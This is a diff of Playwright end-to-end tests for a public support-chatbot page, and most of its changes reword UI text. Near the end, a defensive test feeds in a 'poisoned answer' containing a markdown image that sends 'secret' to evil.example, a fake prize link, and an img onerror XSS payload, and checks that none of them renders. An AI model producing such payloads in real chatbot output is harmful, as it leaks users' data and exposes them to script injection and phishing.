@@ -53,12 +53,12 @@ test("a visitor asks, follows a source, rates the answer, leaves an address and 
   await page.getByRole("button", { name: "Leave my details" }).click();
   const form = page.getByRole("form", { name: /May we contact you/ });
   await form.getByRole("textbox", { name: "Name" }).fill("Ada");
-  await form.getByRole("textbox", { name: "E-mail" }).fill("ada");
+  await form.getByRole("textbox", { name: "Email" }).fill("ada");
   await form.getByRole("button", { name: "Send" }).click();
-  await expect(form.getByText("Enter a valid e-mail address.")).toBeVisible();
-  await form.getByRole("textbox", { name: "E-mail" }).fill("ada@visitor.example");
+  await expect(form.getByText("Enter a valid email address.")).toBeVisible();
+  await form.getByRole("textbox", { name: "Email" }).fill("ada@visitor.example");
   await form.getByRole("button", { name: "Send" }).click();
-  await expect(form.getByText("Your agreement is needed.")).toBeVisible();
+  await expect(form.getByText("Please agree to continue.")).toBeVisible();
   await form.getByRole("checkbox").check();
   await form.getByRole("button", { name: "Send" }).click();
   await expect(form).toHaveCount(0);
@@ -121,7 +121,7 @@ test.describe("a chatbot that is not there", () => {
       for (const path of [publicPage(chatbot), "/support-gpt-public/00000000-0000-4000-8000-000000000000"]) {
         const response = await page.goto(path);
         expect(response?.status()).toBe(404);
-        await expect(page.getByRole("heading", { name: "This chatbot is not available" })).toBeVisible();
+        await expect(page.getByRole("heading", { name: "This chatbot isn’t available" })).toBeVisible();
       }
     },
   );
@@ -153,7 +153,7 @@ test("R33, R34: a hostile name and a poisoned answer show no foreign picture or 
   await openPublic(page, chatbot);
   await expect(page.getByRole("heading", { level: 1 })).toHaveText(hostile);
   await page.getByRole("textbox", { name: "Name" }).fill(hostile);
-  await page.getByRole("textbox", { name: "E-mail" }).fill("eve@visitor.example");
+  await page.getByRole("textbox", { name: "Email" }).fill("eve@visitor.example");
   await page.getByRole("checkbox", { name: hostile }).check();
   await page.getByRole("button", { name: "Start the chat" }).click();
   const poison = `![conversation](https://evil.example/?q=secret) [Claim your prize](https://evil.example/prize) <img src=https://evil.example/x onerror=alert(4)> <${websiteUrl()}/en/returns>`;
